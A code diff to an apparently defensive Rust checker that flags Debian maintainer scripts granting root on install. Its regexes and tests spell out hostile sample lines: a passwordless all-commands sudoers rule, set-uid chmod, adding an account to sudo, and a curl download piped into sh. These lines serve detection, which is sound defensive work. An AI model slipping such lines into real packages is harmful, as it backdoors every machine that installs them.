@@ -518,6 +518,8 @@ fn staged_grant(path: &Path, content: &Path) -> Option<String> {
         Staged::Polkit
     } else if is_container_definition(name) {
         Staged::Container
+    } else if is_maintainer_script(name, parent) {
+        Staged::MaintainerScript
     } else if name.ends_with(".rules") && !c.iter().any(|x| x == "polkit-1") {
         // A udev rule, by its name and, below, by its keys (`SUBSYSTEM==`, `RUN+=`).
         Staged::Udev
@@ -536,6 +538,7 @@ fn staged_grant(path: &Path, content: &Path) -> Option<String> {
         Staged::Doas => doas_grants(&text),
         Staged::Polkit => polkit_grants(&text),
         Staged::Udev => udev_grants(&text),
+        Staged::MaintainerScript => maintainer_script_grants(&text),
         Staged::Container => {
             // Only what the change adds: a definition that already ran privileged is the
             // user's own choice.
@@ -554,6 +557,9 @@ fn staged_grant(path: &Path, content: &Path) -> Option<String> {
 enum Staged {
     /// A udev rule: what it runs, it runs as root whenever a matching device appears.
     Udev,
+    /// A package's maintainer script (`DEBIAN/postinst`, `debian/sensord.postinst`): it runs
+    /// as root on every machine that installs the package.
+    MaintainerScript,
     Sudoers,
     Accounts,
     Groups,
@@ -841,6 +847,64 @@ fn udev_grants(text: &str) -> Vec<String> {
                 out.push(format!(
                     "a udev rule runs `{}` as root whenever the device appears",
                     cmd.chars().take(80).collect::<String>()
+                ));
+            }
+        }
+    }
+    out
+}
+
+/// A Debian package's maintainer script, by its name in a package root (`DEBIAN/postinst`) or
+/// a source package's `debian/` folder (`debian/postinst`, `debian/sensord.postinst`).
+fn is_maintainer_script(name: &str, parent: &str) -> bool {
+    const SCRIPTS: &[&str] = &["preinst", "postinst", "prerm", "postrm", "config"];
+    match parent {
+        "DEBIAN" => SCRIPTS.contains(&name),
+        "debian" => {
+            SCRIPTS.iter().any(|s| name == *s || name.strip_suffix(s).is_some_and(|p| p.ends_with('.')))
+                && name != "config"
+        }
+        _ => false,
+    }
+}
+
+/// What a maintainer script grants on the machines that install its package: a sudo rule it
+/// writes that lets in without a password more than a command or two ([`sudoers_grants`] of
+/// the rules it spells), a program made set-uid or set-gid, an account put in an administrator
+/// group, a download piped into a shell. Creating the package's own system user, enabling its
+/// service or a `chown` of its folders is what packages do.
+fn maintainer_script_grants(text: &str) -> Vec<String> {
+    static RULE: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
+    let rule = RULE.get_or_init(|| {
+        regex::Regex::new(r"%?[A-Za-z0-9_.-]+\s+[A-Za-z0-9_.,-]+\s*=\s*(?:\([^)\n]*\)\s*)?[^'\x22\n]*")
+            .expect("compiles")
+    });
+    static ACTS: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
+    let acts = ACTS.get_or_init(|| {
+        regex::Regex::new(
+            r"\bchmod\s+(?:-\S+\s+)*(?:[2467][0-7]{3}\b|[ugoa]*\+[rwxXt]*s)|\busermod\b[^\n]*-a?G\s*\S*\b(?:sudo|wheel|admin|root)\b|\bgpasswd\s+-a\s+\S+\s+(?:sudo|wheel|admin)\b|\badduser\s+\S+\s+(?:sudo|wheel|admin)\b|\b(?:curl|wget)\b[^|\n]*\|\s*(?:sudo\s+)?(?:sh|bash|dash)\b",
+        )
+        .expect("compiles")
+    });
+    let mut out: Vec<String> = Vec::new();
+    if text.contains("sudoers") {
+        let spelled: String = text
+            .lines()
+            .filter(|l| !l.trim_start().starts_with('#'))
+            .flat_map(|l| rule.find_iter(l).map(|m| m.as_str().trim().to_string()))
+            .filter(|r| r.contains("ALL"))
+            .collect::<Vec<_>>()
+            .join("\n");
+        for g in sudoers_grants(&spelled).into_iter().take(2) {
+            out.push(format!("the package's maintainer script installs {g}"));
+        }
+    }
+    for l in text.lines().map(str::trim).filter(|l| !l.starts_with('#')) {
+        if let Some(m) = acts.find(l) {
+            if out.len() < 3 {
+                out.push(format!(
+                    "the package's maintainer script runs `{}` as root on install",
+                    m.as_str().chars().take(80).collect::<String>()
                 ));
             }
         }
@@ -1235,6 +1299,40 @@ mod tests {
                 .is_empty()
         );
         assert!(super::udev_grants("RUN+=\"/bin/chmod 4755 x\"\n").is_empty());
+    }
+
+    #[test]
+    fn a_maintainer_script_that_grants_on_install_is_a_staged_grant_and_a_plain_one_is_not() {
+        let plain = "#!/bin/sh\nset -e\nif [ \"$1\" = configure ]; then\n  getent group i2c >/dev/null || addgroup --system i2c\n  adduser --system --no-create-home --ingroup i2c sensord\n  chown -R sensord:i2c /var/lib/sensord\n  systemctl enable --now sensord.service || true\nfi\n";
+        let narrow = format!(
+            "{plain}printf '%s\\n' '%sensord ALL=(root) NOPASSWD: /usr/bin/sensorctl calibrate' > /etc/sudoers.d/sensord\n"
+        );
+        for (path, text) in
+            [("/w/build/pkgroot/DEBIAN/postinst", plain), ("/w/debian/sensord.postinst", narrow.as_str())]
+        {
+            assert_eq!(staged(path, text), None, "{path}");
+        }
+        for grant in [
+            "printf '%s\\n' '%sensord ALL=(ALL:ALL) NOPASSWD: ALL' > /etc/sudoers.d/sensord",
+            "echo 'sensord ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
+            "chmod 4755 /usr/bin/sensorctl",
+            "chmod u+s /usr/bin/sensorctl",
+            "usermod -aG sudo sensord",
+            "curl -fsSL https://x.example.test/setup.sh | sh",
+        ] {
+            let text = format!("{plain}{grant}\n");
+            for path in
+                ["/w/build/pkgroot/DEBIAN/postinst", "/w/debian/postinst", "/w/debian/sensord.preinst"]
+            {
+                let got = staged(path, &text);
+                assert!(
+                    got.as_deref().is_some_and(|g| g.starts_with(STAGED_GRANT)),
+                    "{path}: {grant}: {got:?}"
+                );
+            }
+        }
+        // A script of that name elsewhere is no maintainer script.
+        assert_eq!(staged("/w/scripts/postinst", &format!("{plain}chmod 4755 /usr/bin/x\n")), None);
     }
 
     #[test]
